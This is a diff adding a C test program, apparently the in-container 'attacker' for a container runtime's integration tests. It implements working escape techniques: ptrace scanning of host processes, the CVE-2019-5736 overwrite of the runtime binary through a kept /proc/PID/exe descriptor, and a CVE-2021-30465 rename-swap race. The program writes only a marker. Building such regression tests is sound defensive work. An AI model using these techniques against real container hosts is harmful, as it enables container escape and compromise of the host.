@@ -1,0 +1,375 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later
+ * The attacker's program for tests/integration/attacks: runs inside a
+ * container (compiled statically by the tests' fixture) and reports what it
+ * got, one "KEY value..." line per finding, so that the test judges.
+ *
+ *   ptrace-scan ROUNDS STOPFILE
+ *       until STOPFILE exists (or ROUNDS scans): for every other pid in
+ *       /proc, PTRACE_SEIZE it (then detach), open its /proc/PID/exe and
+ *       list /proc/PID/fd.  Prints "ATTACH PID COMM", "EXE PID COMM",
+ *       "FD PID COMM TARGET" for what worked on a process whose comm is
+ *       not one of the container's programs, "CONTROL-ATTACH PID" when it
+ *       could attach to its own child (ptrace works at all), then
+ *       "SCANS N SEEN-RUNTIME M", and waits to be killed.
+ *   hold-exe PID OUTFILE
+ *       CVE-2019-5736: wait until /proc/PID/exe can be opened O_PATH, keep
+ *       it, wait for PID to exit, then open the kept file for writing
+ *       (through /proc/self/fd) and write a marker.  Prints "OPENED path",
+ *       "WRITE ok" or "WRITE-ERR errno".
+ *   write-fd FD MARKER
+ *       CVE-2019-5736, second half (after interp.c): reopen the inherited
+ *       O_PATH fd FD for writing (retrying while ETXTBSY) and write MARKER,
+ *       from a child that outlives the runtime's process waiting for us.
+ *   watch-exe COMM FIFO MARKER
+ *       CVE-2019-5736 against a static runtime: make FIFO, print READY,
+ *       wait (bounded) for a process named COMM (the runtime's binary run
+ *       by "#!/proc/self/exe --log=FIFO", blocked opening FIFO), keep its
+ *       /proc/PID/exe O_PATH, let it go on (read FIFO to EOF), then as
+ *       hold-exe: "OPENED target", "WRITE ok" or "WRITE-ERR errno".
+ *   fds
+ *       every fd open at execve: "FD N TARGET".
+ *   cwd
+ *       "CWD path" from getcwd, and "ROOT-INO dev:ino" of "/" and of ".."
+ *       walked up 64 times.
+ *   swap-loop A B ROUNDS
+ *       CVE-2021-30465: renameat2(RENAME_EXCHANGE) A and B ROUNDS times.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+static int read_comm(int pid, char *buf, size_t n)
+{
+	char p[64];
+	snprintf(p, sizeof p, "/proc/%d/comm", pid);
+	int fd = open(p, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return -1;
+	ssize_t k = read(fd, buf, n - 1);
+	close(fd);
+	if (k <= 0)
+		return -1;
+	buf[k] = '\0';
+	buf[strcspn(buf, "\n")] = '\0';
+	return 0;
+}
+
+/* programs of the container itself: attaching to them is allowed */
+static int is_container_program(const char *comm)
+{
+	return strcmp(comm, "payload") == 0 || strcmp(comm, "probe") == 0 || strcmp(comm, "sh") == 0 ||
+	       strcmp(comm, "sleep") == 0;
+}
+
+/* Let a seized tracee go: a detach needs a ptrace-stop, and a tracee that
+ * exits while traced is reported to us first (its parent would wait for
+ * it forever if we never reaped that report). */
+static void release(int pid)
+{
+	int st;
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
+		return;
+	for (;;) {
+		pid_t w = waitpid(pid, &st, __WALL);
+		if (w < 0 || WIFEXITED(st) || WIFSIGNALED(st))
+			return;
+		if (WIFSTOPPED(st)) {
+			/* a signal that stopped it is handed back at the detach */
+			int sig = WSTOPSIG(st);
+			int ev = (st >> 16) & 0xff;
+			if (ptrace(PTRACE_DETACH, pid, 0, (ev == PTRACE_EVENT_STOP || sig == SIGTRAP) ? 0 : sig) == 0)
+				return;
+			if (errno == ESRCH)
+				continue;
+			return;
+		}
+	}
+}
+
+static void try_pid(int pid, long *seen_runtime)
+{
+	char comm[64];
+	if (read_comm(pid, comm, sizeof comm) < 0)
+		return;
+	/* the container's own programs are left alone (attaching to them is
+	 * allowed, and would only slow the runs down) */
+	if (is_container_program(comm))
+		return;
+	if (strstr(comm, "isc") || strstr(comm, "runc") || strstr(comm, "crun") || strstr(comm, "memfd"))
+		(*seen_runtime)++;
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+		char again[64];
+		/* the comm after the attach: an execve may have finished meanwhile */
+		if (read_comm(pid, again, sizeof again) == 0 && !is_container_program(again))
+			printf("ATTACH %d %s\n", pid, again);
+		release(pid);
+	}
+	char p[64];
+	snprintf(p, sizeof p, "/proc/%d/exe", pid);
+	int fd = open(p, O_PATH | O_CLOEXEC);
+	if (fd >= 0) {
+		char again[64];
+		if (read_comm(pid, again, sizeof again) == 0 && !is_container_program(again))
+			printf("EXE %d %s\n", pid, again);
+		close(fd);
+	}
+	snprintf(p, sizeof p, "/proc/%d/fd", pid);
+	DIR *d = opendir(p);
+	if (d == NULL)
+		return;
+	struct dirent *de;
+	while ((de = readdir(d)) != NULL) {
+		if (de->d_name[0] == '.')
+			continue;
+		char lp[300], target[512];
+		snprintf(lp, sizeof lp, "/proc/%d/fd/%s", pid, de->d_name);
+		ssize_t k = readlink(lp, target, sizeof target - 1);
+		if (k < 0)
+			continue;
+		target[k] = '\0';
+		char again[64];
+		if (read_comm(pid, again, sizeof again) == 0 && !is_container_program(again))
+			printf("FD %d %s %s\n", pid, again, target);
+	}
+	closedir(d);
+}
+
+/* ptrace works here at all: attach to a child of our own */
+static void control_attach(void)
+{
+	pid_t c = fork();
+	if (c == 0) {
+		pause();
+		_exit(0);
+	}
+	if (c < 0)
+		return;
+	if (ptrace(PTRACE_SEIZE, c, 0, 0) == 0) {
+		printf("CONTROL-ATTACH %d\n", c);
+		ptrace(PTRACE_DETACH, c, 0, 0);
+	} else {
+		printf("CONTROL-ERR %d\n", errno);
+	}
+	kill(c, SIGKILL);
+	waitpid(c, NULL, 0);
+}
+
+static int ptrace_scan(long rounds, const char *stop)
+{
+	int self = getpid();
+	long n = 0, seen = 0;
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	control_attach();
+	printf("READY\n");
+	for (; n < rounds && access(stop, F_OK) != 0; n++) {
+		DIR *d = opendir("/proc");
+		if (d == NULL)
+			return 1;
+		struct dirent *de;
+		while ((de = readdir(d)) != NULL) {
+			int pid = atoi(de->d_name);
+			if (pid > 0 && pid != self)
+				try_pid(pid, &seen);
+		}
+		closedir(d);
+	}
+	printf("SCANS %ld SEEN-RUNTIME %ld\n", n, seen);
+	/* pid 1 stays: its exit would kill the exec that wrote the stop file */
+	for (;;)
+		pause();
+}
+
+/* CVE-2019-5736, the container's side that outlives the runtime's image:
+ * a kept O_PATH fd of the runtime binary, reopened for writing once the
+ * binary no longer runs (ETXTBSY until then). */
+static int write_through(int fd, const char *marker, long tries)
+{
+	char p[64];
+	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+	int last = 0;
+	for (long i = 0; i < tries; i++) {
+		int w = open(p, O_WRONLY | O_CLOEXEC);
+		if (w >= 0) {
+			ssize_t k = pwrite(w, marker, strlen(marker), 0);
+			int e = errno;
+			close(w);
+			if (k == (ssize_t)strlen(marker)) {
+				printf("WRITE ok\n");
+				return 0;
+			}
+			printf("WRITE-ERR %d\n", e);
+			return 1;
+		}
+		last = errno;
+		if (last != ETXTBSY)
+			break;
+		usleep(1000);
+	}
+	printf("WRITE-ERR %d\n", last);
+	return 1;
+}
+
+static int write_fd(int fd, const char *marker)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	/* the runtime's process that waits for us runs the same binary: exit,
+	 * so that it can exit too, and write from a child that outlives it */
+	pid_t c = fork();
+	if (c != 0)
+		return c < 0 ? 1 : 0;
+	return write_through(fd, marker, 20000);
+}
+
+static int hold_exe(int pid, const char *marker)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	char p[64];
+	snprintf(p, sizeof p, "/proc/%d/exe", pid);
+	int fd = open(p, O_PATH | O_CLOEXEC);
+	if (fd < 0) {
+		printf("OPEN-ERR %d\n", errno);
+		return 1;
+	}
+	char target[512];
+	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+	ssize_t k = readlink(p, target, sizeof target - 1);
+	target[k > 0 ? k : 0] = '\0';
+	printf("OPENED %s\n", target);
+	return write_through(fd, marker, 20000);
+}
+
+static int find_comm(const char *want, long rounds)
+{
+	for (long r = 0; r < rounds; r++) {
+		DIR *d = opendir("/proc");
+		if (d == NULL)
+			return -1;
+		struct dirent *de;
+		int found = -1;
+		while (found < 0 && (de = readdir(d)) != NULL) {
+			int pid = atoi(de->d_name);
+			char comm[64];
+			if (pid > 0 && pid != getpid() && read_comm(pid, comm, sizeof comm) == 0 &&
+			    strcmp(comm, want) == 0)
+				found = pid;
+		}
+		closedir(d);
+		if (found > 0)
+			return found;
+		usleep(1000);
+	}
+	return -1;
+}
+
+static int watch_exe(const char *comm, const char *fifo, const char *marker)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST) {
+		printf("FIFO-ERR %d\n", errno);
+		return 1;
+	}
+	printf("READY\n");
+	int pid = find_comm(comm, 60000); /* ~60 s */
+	if (pid < 0) {
+		printf("NOT-FOUND %s\n", comm);
+		return 1;
+	}
+	char p[64];
+	snprintf(p, sizeof p, "/proc/%d/exe", pid);
+	int fd = open(p, O_PATH | O_CLOEXEC);
+	if (fd < 0) {
+		printf("OPEN-ERR %d\n", errno);
+		return 1;
+	}
+	char target[512];
+	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+	ssize_t k = readlink(p, target, sizeof target - 1);
+	target[k > 0 ? k : 0] = '\0';
+	printf("OPENED %s\n", target);
+	/* release the runtime: it opened FIFO to log into it */
+	int r = open(fifo, O_RDONLY | O_CLOEXEC);
+	char buf[4096];
+	while (r >= 0 && read(r, buf, sizeof buf) > 0)
+		;
+	if (r >= 0)
+		close(r);
+	return write_through(fd, marker, 20000);
+}
+
+static int list_fds(void)
+{
+	DIR *d = opendir("/proc/self/fd");
+	if (d == NULL)
+		return 1;
+	int self = dirfd(d);
+	struct dirent *de;
+	while ((de = readdir(d)) != NULL) {
+		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
+			continue;
+		char lp[300], target[512];
+		snprintf(lp, sizeof lp, "/proc/self/fd/%s", de->d_name);
+		ssize_t k = readlink(lp, target, sizeof target - 1);
+		target[k > 0 ? k : 0] = '\0';
+		printf("FD %s %s\n", de->d_name, target);
+	}
+	closedir(d);
+	return 0;
+}
+
+static int show_cwd(void)
+{
+	char buf[4096];
+	if (getcwd(buf, sizeof buf))
+		printf("CWD %s\n", buf);
+	else
+		printf("CWD-ERR %d\n", errno);
+	struct stat root, up;
+	if (stat("/", &root) == 0)
+		printf("ROOT-INO %lu:%lu\n", (unsigned long)root.st_dev, (unsigned long)root.st_ino);
+	char path[4096] = ".";
+	for (int i = 0; i < 64; i++)
+		strcat(path, "/..");
+	if (stat(path, &up) == 0)
+		printf("UP-INO %lu:%lu\n", (unsigned long)up.st_dev, (unsigned long)up.st_ino);
+	return 0;
+}
+
+static int swap_loop(const char *a, const char *b, long rounds)
+{
+	long ok = 0;
+	for (long i = 0; i < rounds; i++)
+		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
+			ok++;
+	printf("SWAPS %ld\n", ok);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc >= 4 && strcmp(argv[1], "ptrace-scan") == 0)
+		return ptrace_scan(atol(argv[2]), argv[3]);
+	if (argc >= 4 && strcmp(argv[1], "hold-exe") == 0)
+		return hold_exe(atoi(argv[2]), argv[3]);
+	if (argc >= 4 && strcmp(argv[1], "write-fd") == 0)
+		return write_fd(atoi(argv[2]), argv[3]);
+	if (argc >= 5 && strcmp(argv[1], "watch-exe") == 0)
+		return watch_exe(argv[2], argv[3], argv[4]);
+	if (argc >= 2 && strcmp(argv[1], "fds") == 0)
+		return list_fds();
+	if (argc >= 2 && strcmp(argv[1], "cwd") == 0)
+		return show_cwd();
+	if (argc >= 5 && strcmp(argv[1], "swap-loop") == 0)
+		return swap_loop(argv[2], argv[3], atol(argv[4]));
+	fprintf(stderr, "probe: unknown command\n");
+	return 2;
+}
